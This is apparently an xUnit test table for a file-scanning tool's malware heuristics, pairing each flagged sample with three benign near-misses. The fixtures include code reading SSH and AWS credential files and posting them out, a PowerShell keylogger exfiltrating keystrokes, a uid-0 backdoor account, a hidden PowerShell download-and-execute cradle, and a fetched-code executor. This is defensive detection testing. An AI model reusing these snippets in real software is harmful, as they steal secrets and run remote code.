using System.Reflection;
using System.Reflection.Emit;
using ScanHost.Pipeline.Findings;
using ScanHost.Pipeline.Tests.Doubles;
using ScanHost.TestKit;
using static ScanHost.Pipeline.Findings.ScriptHeuristics;

namespace ScanHost.Pipeline.Tests.Audit;

/// <summary>One file that deserves each finding about how things are delivered and what they take along, and three that come close.</summary>
public sealed class DeliveryCases
{
    private const string Reads = "const o=[fs.readFileSync(h+'/.ssh/id_rsa'),fs.readFileSync(h+'/.aws/credentials')];";
    private const string Acts = "new ActiveXObject('WScript.Shell').Run('calc');";
    private const string Drawing = "<svg xmlns=\"http://www.w3.org/2000/svg\">";
    private const string Password = "<form action='https://host.invalid/x'><input type='password'></form>";
    private static readonly byte[] Program = new PeBuilder().Build();

    private static readonly byte[] Package = InertFiles.Zip(("AndroidManifest.xml", ScanHost.TestKit.HeldOut.Second.PackageForms.AndroidManifest("com.firm.app")), ("classes.dex", [.. "dex\n035\0"u8, .. new byte[200]]));

    private static readonly HeuristicCase[] Table =
    [
        HeuristicCase.Of(SecretFiles, "a.js", Reads + "https.request({host:'h.invalid'}).end(o);", Reads + "show(o);", "const n=fs.readFileSync(h+'/.npmrc');https.request(o);", "// .ssh/id_rsa and .aws/credentials are never read\nhttps.request(o);fs.readFile(f);"),
        new(ScriptSent, Zip("a.js", Acts), new("a.js", Acts), Zip("a.js", "module.exports = require('./b');"), Zip("a.ps1", "Get-Date")),
        HeuristicCase.Of(Scriptlet, "a.sct", Component("new ActiveXObject('WScript.Shell').Run('calc')"), Component("return 1+1"), "<html><script>new ActiveXObject('WScript.Shell').Run('calc')</script></html>", Component("app.Run(job)")),
        HeuristicCase.Of(JsHostExfil, "a.js", "const d=JSON.stringify({h:os.hostname(),e:process.env});https.request(o).end(d);", "const d=JSON.stringify({h:os.hostname(),e:process.env.NODE_ENV});https.request(o).end(d);",
            "cp.spawn('node',{env:process.env});https.get(u);os.hostname();", "const d=JSON.stringify(process.env);console.log(d,os.hostname());"),
        HeuristicCase.Of(JsRemoteCode, "a.js", "fetch('https://h.invalid/c').then(r=>r.text()).then(t=>chrome.scripting.executeScript({func:s=>{new Function(s)()},args:[t]}));",
            "chrome.scripting.executeScript({files:['a.js']});fetch('https://h.invalid/c');", "fetch('https://h.invalid/c').then(t=>new Function(t)());", "chrome.scripting.executeScript({func:()=>{new Function('1')}});"),
        HeuristicCase.Of(PsKeyLogger, "a.ps1", "while($true){$a::GetAsyncKeyState(65)};irm https://h.invalid -Method Post -Body $k", "while($true){$a::GetAsyncKeyState(65)}", "if($a::GetAsyncKeyState(16)){irm https://h.invalid -Method Post -Body $k}", "while($true){irm https://h.invalid -Method Post -Body $k}"),
        HeuristicCase.Of(ShBackdoor, "a.sh", "#!/bin/sh\nuseradd -o -u 0 -g 0 sysd\n", "#!/bin/sh\nuseradd -r -u 998 app\n", "#!/bin/sh\necho \"$KEY\" >> /home/deploy/.ssh/authorized_keys\n", "#!/bin/sh\nchown 0:0 /etc/passwd\n"),
        HeuristicCase.Of(PyExecDecrypted, "a.py", "exec(Fernet(b'wqLbZ4xkKcS2m0bJ3F2pY9dE7gk1rQ0Tt5uH8oN6sVw=').decrypt(b'gAAAA'))", "data = Fernet(key).decrypt(token)\n", "exec(compile(source, name, 'exec'))\n", "exec(Fernet(os.environ['KEY']).decrypt(path.read_bytes()))\n"),
        HeuristicCase.Of(WebHeuristics.CredentialAssets, "a.html", Page($"<img src='https://aadcdn.msauth.net/shared/1.0/logo.svg'>{Password}"), Page(Password), Page("<img src='https://aadcdn.msauth.net/shared/1.0/logo.svg'>"),
            Page("<img src='https://aadcdn.msauth.net/a.svg'><form action='https://login.microsoftonline.com/x'><input type='password'></form>")),
        HeuristicCase.Of(WebHeuristics.PageRedirect, "a.html", Page("<script>location.href=atob('aHR0cHM6Ly9ob3N0LmludmFsaWQv')</script>"), Page("<script>location.href='https://host.invalid/'</script>"),
            Page("<script>location.href=atob(new URLSearchParams(location.search).get('to'))</script>"), Page("<script>var a=atob('aHR0cHM6Ly9ob3N0LmludmFsaWQv');show(a)</script>")),
        HeuristicCase.Of(WebHeuristics.DrawnForm, "a.svg", Drawing + $"<foreignObject>{Password}</foreignObject></svg>", Drawing + "<foreignObject><div>Label</div></foreignObject></svg>", Drawing + "<text>Password</text></svg>", Page(Password)),
        new(ArchiveHeuristics.ProgramBehind, Behind(("a.exe", Program)), Behind(("a.txt", "x"u8.ToArray())), new("a.zip", InertFiles.Zip(("a.exe", Program))), new("a.png", InertFiles.Png())),
        new(ShortcutHeuristics.Wildcards, Link(@"C:\Windows\System32\cmd.exe", @"/c \*i*\*2\msh*e x"), Link(@"C:\Windows\System32\cmd.exe", @"/c del *.bak"), Link(@"C:\Windows\System32\cmd.exe", @"/c copy C:\a\*.txt D:\b"), Link(@"C:\Program Files\A\a.exe", @"\*i*\*2\msh*e")),
        HeuristicCase.Of(ShortcutHeuristics.WebLibrary, "a.library-ms", Library("http://share.host.invalid/docs/"), Library("https://firm.sharepoint.com/docs/"), Library("http://intranet/docs/"), Library("C:\\Users\\Public\\Documents")),
        new(DocumentHeuristics.NamelessSource, Template("http://203.0.113.5/a.dotm"), Template("https://host.invalid/a.dotm"), Template("http://192.168.1.5/a.dotm"), Template("file:///C:\\a.dotm")),
        new(DocumentHeuristics.HiddenCommand, Stored("cmd /c powershell -w hidden -c iex(irm http://192.0.2.1/a)"), Stored("Dear Sir or Madam"), Stored("cmd"), new("a.docx", OoxmlBuilder.Word().Part("word/settings.xml", Variables("cmd /c powershell -w hidden -c iex(irm http://192.0.2.1/a)")).Build())),
        new(DocumentHeuristics.MacroPersistence, Macro("Set s = CreateObject(\"Schedule.Service\")\ns.GetFolder(\"\\\").RegisterTaskDefinition \"a\", t, 6, , , 3"), Macro("Application.OnTime Now + 1, \"Refresh\""), Macro("Set s = CreateObject(\"Schedule.Service\")\nMsgBox s.Connected"), Macro("x = RegRead(\"HKCU\\Software\\Firm\")")),
        new(PackageHeuristics.ApkDebugCertificate, App("CN=Android Debug, O=Android, C=US"), App("CN=Android Debug Tools, O=Firm"), App("CN=Firm, O=Firm, C=DE"), new("a.apk", Package)),
        new(DocumentHeuristics.InstallerUnsigned, Installer(4), Installer(3 << 20), new("a.doc", new OleFileBuilder().Stream("WordDocument", new byte[600]).Build()), new("a.msi", "not an installer at all")),
        new(DocumentHeuristics.PdfPictureLink, Picture("0 0 600 800", ""), Picture("10 10 100 40", ""), Picture("0 0 600 800", "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"), new("a.pdf", PdfBuilder.Document())),
        new(ExecutableHeuristics.PeInjectsDownload, Imports("HttpSendRequestA", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"), Imports("HttpSendRequestA"), Imports("VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"), Imports("HttpSendRequestA", "VirtualAllocEx", "WriteProcessMemory")),
        new(ExecutableHeuristics.PeAddInDownload, new("a.xll", new PeBuilder().Exporting("a.xll", "xlAutoOpen").Importing("URLMON.dll", "URLDownloadToFileA").Importing("KERNEL32.dll", "WinExec").Build()),
            new("a.xll", new PeBuilder().Exporting("a.xll", "xlAutoOpen").Importing("KERNEL32.dll", "WinExec").Build()), new("a.dll", new PeBuilder().Exporting("a.dll", "Run").Importing("URLMON.dll", "URLDownloadToFileA").Importing("KERNEL32.dll", "WinExec").Build()),
            new("a.xll", new PeBuilder().Exporting("a.xll", "xlAutoOpen").Importing("URLMON.dll", "URLDownloadToFileA").Build())),
        new(ExecutableHeuristics.NetHiddenCode, Assembly(decodes: true, runs: false), Assembly(decodes: false, runs: false), Assembly(decodes: false, runs: true), new("a.exe", Program)),
        new(ExecutableHeuristics.NetLoadRun, Assembly(decodes: true, runs: true), Assembly(decodes: true, runs: false), Assembly(decodes: false, runs: true), new("a.exe", Program)),
    ];

    public static TheoryData<int> Rows => [.. Enumerable.Range(0, Table.Length)];

    [Theory]
    [MemberData(nameof(Rows))]
    public Task A_file_deserves_it_and_three_that_come_close_do_not(int row) => Table[row].CheckAsync();

    private static string Page(string body) => $"<html><head><title>a</title></head><body>{body}</body></html>";

    private static SampleFile Zip(string name, string text) => new("a.zip", InertFiles.Zip((name, System.Text.Encoding.UTF8.GetBytes(text))));

    private static string Component(string code) => $"<?XML version=\"1.0\"?><scriptlet><registration progid=\"P\"><script language=\"JScript\"><![CDATA[{code}]]></script></registration></scriptlet>";

    private static SampleFile Behind((string Name, byte[] Content) member) => new("a.png", [.. InertFiles.Png(), .. InertFiles.Zip(member)]);

    private static SampleFile Link(string target, string arguments) => new("a.lnk", new LinkBuilder().To(target).With(arguments).Build());

    private static string Library(string place) =>
        $"<?xml version=\"1.0\" encoding=\"UTF-8\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>{place}</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>";

    private static SampleFile Template(string target) => new("a.docx", OoxmlBuilder.Word().Relationship("word/_rels/settings.xml.rels", "attachedTemplate", target).Build());

    private static string Variables(string value) =>
        $"<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:docVars><w:docVar w:name=\"x\" w:val=\"{value}\"/></w:docVars></w:settings>";

    private static SampleFile Stored(string value) => new("a.docm", OoxmlBuilder.Word().Part("word/settings.xml", Variables(value)).WithMacros(new VbaProjectBuilder().Module("M", "Sub A()\nEnd Sub\n").Build()).Build());

    private static SampleFile App(string subject) => new("a.apk", ApkBuilder.Sign(Package, subject));

    private static SampleFile Installer(int length)
    {
        using var folder = new TemporaryFolder();
        var content = new byte[length];
        new Random(5).NextBytes(content);
        folder.Write("inner.bin", content);
        return new("a.msi", MsiBuilder.WithWixl(folder.Path));
    }

    private static SampleFile Macro(string body) => new("a.docm", OoxmlBuilder.Word().WithMacros(new VbaProjectBuilder().Module("M", $"Sub A()\n{body}\nEnd Sub\n").Build()).Build());

    private static SampleFile Picture(string link, string font) => new("a.pdf", new PdfBuilder()
        .Add(3, $"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [ << /Type /Annot /Subtype /Link /Rect [{link}] /A << /S /URI /URI (https://host.invalid/a) >> >> ] /Resources << /XObject << /I 8 0 R >> {(font.Length > 0 ? $"/Font << /F {font} >>" : "")} >> >>")
        .Stream(8, "/Type /XObject /Subtype /Image /Width 1200 /Height 1600 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode", [0xFF, 0xD8, 0xFF, 0xD9]).Build());

    private static SampleFile Imports(params string[] functions) => new("a.exe", new PeBuilder().Importing("KERNEL32.dll", functions).Build());

    private static SampleFile Assembly(bool decodes, bool runs)
    {
        var assembly = new PersistedAssemblyBuilder(new AssemblyName("a"), typeof(object).Assembly);
        var type = assembly.DefineDynamicModule("a").DefineType("A", TypeAttributes.Public);
        var code = type.DefineMethod("Main", MethodAttributes.Public | MethodAttributes.Static, typeof(void), null).GetILGenerator();
        code.Emit(OpCodes.Ldstr, "QUFBQQ==");
        code.Emit(OpCodes.Call, decodes ? typeof(Convert).GetMethod("FromBase64String", [typeof(string)])! : typeof(File).GetMethod("ReadAllBytes", [typeof(string)])!);
        code.Emit(OpCodes.Call, typeof(Assembly).GetMethod("Load", [typeof(byte[])])!);
        if (runs)
        {
            code.Emit(OpCodes.Callvirt, typeof(Assembly).GetProperty("EntryPoint")!.GetMethod!);
            code.Emit(OpCodes.Ldnull);
            code.Emit(OpCodes.Ldnull);
            code.Emit(OpCodes.Callvirt, typeof(MethodBase).GetMethod("Invoke", [typeof(object), typeof(object[])])!);
        }
        code.Emit(OpCodes.Pop);
        code.Emit(OpCodes.Ret);
        type.CreateType();
        using var file = new MemoryStream();
        assembly.Save(file);
        return new("a.dll", file.ToArray());
    }
}
